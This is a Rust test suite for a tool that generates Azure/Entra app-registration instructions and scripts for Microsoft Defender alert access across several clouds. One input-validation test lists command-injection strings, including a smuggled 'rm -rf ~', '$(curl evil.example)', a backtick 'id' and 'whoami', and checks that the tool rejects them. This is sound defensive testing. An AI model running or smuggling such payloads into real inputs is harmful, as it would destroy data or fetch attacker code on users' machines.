use proptest::prelude::*;

use super::*;
use crate::view::{ApiHost, ErrorCode, Feature, Grant, Passport, PassportRow, Realm, ShownAccount};

const TENANT: &str = "1b2c3d4e-0000-4000-8000-1234567890ab";
const CLIENT: &str = "66666666-7777-4888-9999-000000000000";
const ALL: [RegistrationText; 4] = [
    RegistrationText::Portal,
    RegistrationText::Az,
    RegistrationText::PowerShell,
    RegistrationText::Message,
];

fn form(cloud: Cloud, client: &str) -> OrganisationForm {
    OrganisationForm {
        cloud,
        tenant: TENANT.into(),
        client: client.into(),
        host: ApiHost::Global,
        domain: Some("contoso.example".into()),
    }
}

#[test]
fn each_text_is_whole_and_holds_the_persons_values() {
    for cloud in Cloud::ALL {
        for client in ["", CLIENT] {
            let form = form(cloud, client);
            let shown = registration(&form).unwrap();
            let shown = [&shown.portal, &shown.az, &shown.power_shell, &shown.message];
            for (which, shown) in ALL.into_iter().zip(shown) {
                let exact = text(&form, which).unwrap();

                assert_eq!((shown.flat(), shown.hidden), (exact.clone(), 0), "{which:?}");
                assert!(exact.contains(TENANT), "{exact}");
                assert!(exact.contains(client), "{exact}");
                assert!(exact.contains("http://localhost"), "{exact}");
                assert!(exact.contains("Alert.Read"), "{exact}");
                assert!(exact.contains("WindowsDefenderATP"), "{exact}");
                assert!(!exact.contains("(not given)") && !exact.contains("register."), "{exact}");
                assert!(exact.ends_with('\n') && !exact.ends_with("\n\n"));
            }
        }
    }
}

#[test]
fn without_a_client_id_a_registration_is_made_and_its_id_asked_for() {
    for (which, last) in ALL.into_iter().zip([
        "Enter it in Droptrace.\n",
        "# Enter the client id that is printed here in Droptrace.\necho \"$APP_ID\"\n)\n",
        "# Enter the client id that is printed here in Droptrace.\n$app.AppId\n}\n",
        "Please send me that client id.\n",
    ]) {
        let new = text(&form(Cloud::Commercial, " "), which).unwrap();
        let existing = text(&form(Cloud::Commercial, CLIENT), which).unwrap();

        assert!(new.contains(last), "{new}");
        assert!(!existing.contains(last), "{existing}");
        assert!(!new.contains("00000000-0000"), "{new}");
        for makes in ["az ad app create", "New-MgApplication", "New registration"] {
            assert!(!existing.contains(makes), "{existing}");
        }
    }
}

#[test]
fn each_cloud_has_its_own_places() {
    for (cloud, portal, authority, scope, az, environment) in [
        (
            Cloud::Commercial,
            "https://entra.microsoft.com ",
            "https://login.microsoftonline.com/",
            "https%3A%2F%2Fapi.securitycenter.microsoft.com%2FAlert.Read",
            false,
            "-Environment Global ",
        ),
        (
            Cloud::Gcc,
            "https://entra.microsoft.com ",
            "https://login.microsoftonline.com/",
            "https%3A%2F%2Fapi-gcc.securitycenter.microsoft.us%2FAlert.Read",
            false,
            "-Environment Global ",
        ),
        (
            Cloud::GccHigh,
            "https://entra.microsoft.us ",
            "https://login.microsoftonline.us/",
            "https%3A%2F%2Fapi-gov.securitycenter.microsoft.us%2FAlert.Read",
            true,
            "-Environment USGov ",
        ),
        (
            Cloud::Dod,
            "https://entra.microsoft.us ",
            "https://login.microsoftonline.us/",
            "https%3A%2F%2Fapi-gov.securitycenter.microsoft.us%2FAlert.Read",
            true,
            "-Environment USGovDoD ",
        ),
    ] {
        let [steps, script, power_shell, message] =
            ALL.map(|which| text(&form(cloud, CLIENT), which).unwrap());

        let link = format!(
            "{authority}{TENANT}/v2.0/adminconsent?client_id={CLIENT}&scope=openid%20profile%20\
             offline_access%20{scope}&redirect_uri=http%3A%2F%2Flocalhost"
        );
        assert!(steps.contains(portal), "{steps}");
        assert_eq!(script.contains("az cloud set --name AzureUSGovernment\n"), az);
        assert_eq!(script.contains("https://dod-graph.microsoft.us/"), cloud == Cloud::Dod);
        assert!(power_shell.contains(environment), "{power_shell}");
        assert!(message.contains(&format!("\n{link}\n")), "{message}");
        assert!(script.contains(&link.replace(CLIENT, "${APP_ID}")), "{script}");
        assert!(power_shell.contains(&link.replace(CLIENT, "$($app.AppId)")), "{power_shell}");
    }
}

#[test]
fn a_script_is_read_whole_before_it_starts_and_finds_the_permission_by_its_name() {
    let az = text(&form(Cloud::Commercial, ""), RegistrationText::Az).unwrap();
    let power_shell = text(&form(Cloud::Commercial, ""), RegistrationText::PowerShell).unwrap();

    for (script, start, end) in [(&az, "(", ")"), (&power_shell, "& {", "}")] {
        let lines: Vec<&str> = script.lines().filter(|line| !line.starts_with('#')).collect();
        assert_eq!((lines.first(), lines.last()), (Some(&start), Some(&end)));
    }
    for (script, by_name) in
        [(az, "?value=='Alert.Read'"), (power_shell, "Where-Object Value -EQ 'Alert.Read'")]
    {
        assert!(script.contains(by_name), "{script}");
        assert!(script.contains("b2069dc0-9fe9-4e6d-9aca-ccf3dd503819"), "{script}");
    }
}

/// Runs the script with an `az` that writes down what it is asked.
#[cfg(unix)]
#[test]
fn bash_runs_the_script_as_it_is_meant() {
    use std::{os::unix::fs::PermissionsExt, process::Command};

    let folder = tempfile::tempdir().unwrap();
    let stand_in = folder.path().join("az");
    let log = folder.path().join("log");
    let code = format!(
        "#!/bin/sh\necho \"$*\" >> '{}'\ncase \"$3\" in create) echo {CLIENT};; show) exit 3;; esac\n",
        log.display()
    );
    std::fs::write(&stand_in, code).unwrap();
    std::fs::set_permissions(&stand_in, PermissionsExt::from_mode(0o700)).unwrap();
    let script = text(&form(Cloud::Dod, ""), RegistrationText::Az).unwrap();

    let run = Command::new("bash")
        .args(["-c", &script])
        .env("PATH", format!("{}:/usr/bin:/bin", folder.path().display()))
        .output()
        .unwrap();

    assert!(run.status.success(), "{run:?}");
    let printed = String::from_utf8(run.stdout).unwrap();
    assert_eq!(printed.lines().last(), Some(CLIENT));
    assert!(printed.contains(&format!("client_id={CLIENT}&scope=openid%20")), "{printed}");
    let asked = std::fs::read_to_string(log).unwrap();
    let asked: Vec<&str> = asked.lines().collect();
    assert_eq!(asked[0], "cloud set --name AzureUSGovernment");
    assert!(asked[1].starts_with("cloud update --name AzureUSGovernment "), "{asked:?}");
    assert!(asked[1].ends_with(" https://dod-graph.microsoft.us/"), "{asked:?}");
    assert!(asked[2].starts_with(&format!("login --tenant {TENANT} ")), "{asked:?}");
    assert!(
        asked
            .last()
            .unwrap()
            .ends_with("--api-permissions b2069dc0-9fe9-4e6d-9aca-ccf3dd503819=Scope"),
        "the documented id stands in for the name: {asked:?}"
    );
}

#[test]
fn what_was_typed_gets_nowhere_unless_it_is_what_it_should_be() {
    let hostile = [
        "\"; rm -rf ~; \"",
        "$(curl evil.example)",
        "`id`",
        "1b2c3d4e-0000-4000-8000-1234567890ab\nwhoami",
        "1b2c3d4e-0000-4000-8000-1234567890a'",
        "common",
        "",
    ];
    for typed in hostile {
        let tenant = OrganisationForm { tenant: typed.into(), ..form(Cloud::Commercial, "") };
        assert_eq!(registration(&tenant).unwrap_err().code, ErrorCode::TenantInvalid, "{typed}");
        if !typed.is_empty() {
            let client = form(Cloud::Commercial, typed);
            let refused = text(&client, RegistrationText::Az).unwrap_err();
            assert_eq!(refused.code, ErrorCode::ClientInvalid, "{typed}");
        }
        let domain = OrganisationForm { domain: Some(typed.into()), ..form(Cloud::Commercial, "") };
        assert_eq!(registration(&domain).unwrap_err().code, ErrorCode::DomainInvalid, "{typed}");
    }
    let host = OrganisationForm { host: ApiHost::NewEu, ..form(Cloud::Dod, "") };
    assert_eq!(registration(&host).unwrap_err().code, ErrorCode::HostInvalid);
}

proptest! {
    #[test]
    fn nothing_but_letters_digits_hyphens_and_dots_gets_into_a_script(
        tenant in "\\PC{0,40}", client in "\\PC{0,40}", domain in "\\PC{0,40}",
        good in any::<(bool, bool, bool)>(),
    ) {
        let form = OrganisationForm {
            tenant: if good.0 { TENANT.into() } else { tenant },
            client: if good.1 { CLIENT.to_uppercase() } else { client },
            domain: if good.2 { Some("Contoso.Example".into()) } else { Some(domain) },
            ..form(Cloud::Commercial, "")
        };
        if let Ok(values) = Values::of(&form) {
            let client = values.client.as_deref().unwrap_or_default();
            let domain = values.domain.as_ref().map(Domain::as_str).unwrap_or_default();
            for value in [&*values.tenant, client, domain] {
                let is_plain =
                    |byte: u8| matches!(byte, b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.');
                prop_assert!(value.bytes().all(is_plain), "{}", value);
            }
        }
    }
}

#[test]
fn the_passport_says_what_each_feature_needs_and_asks_for_what_is_missing() {
    let row = |feature, scope: &str, scope_state, role_state| PassportRow {
        feature,
        scope: Shown::of(scope),
        scope_state,
        role_state,
    };
    let mut passport = Passport {
        account: ShownAccount {
            realm: Realm::Organisation,
            name: Shown::of("Ada \u{202e}Lovelace"),
            sign_in_name: Shown::of("ada@contoso.example"),
            tenant: Shown::of(TENANT),
            sees: None,
        },
        rows: vec![
            row(Feature::WhoIsThere, "openid profile", Grant::Granted, None),
            row(Feature::StaySignedIn, "offline_access", Grant::Unknown, None),
            row(Feature::ReadAlerts, "Alert.Read", Grant::Inferred, Some(Grant::Inferred)),
        ],
    };

    let told = passport_text(&passport, TENANT, CLIENT);
    assert_eq!(
        told,
        format!(
            "What Droptrace may do for Ada \u{27e8}U+202E\u{27e9}Lovelace (ada@contoso.example)\n\
             Tenant {TENANT}, app registration {CLIENT}\n\
             \n\
             - Knowing who is signed in: permission openid profile: granted\n\
             - Staying signed in over a restart: permission offline_access: not known\n\
             - Reading the alerts of a file: permission Alert.Read: seems to be there; role in \
             Defender: seems to be there\n"
        )
    );

    passport.rows[2].scope_state = Grant::Missing;
    let told = passport_text(&passport, TENANT, CLIENT);
    assert!(told.contains("\n\nPlease add the missing delegated permission"), "{told}");
    assert!(!told.contains("Please give this person a role"), "{told}");

    passport.rows[2].role_state = Some(Grant::Missing);
    let told = passport_text(&passport, TENANT, CLIENT);
    assert!(told.ends_with("“View Data”.\n"), "{told}");
}
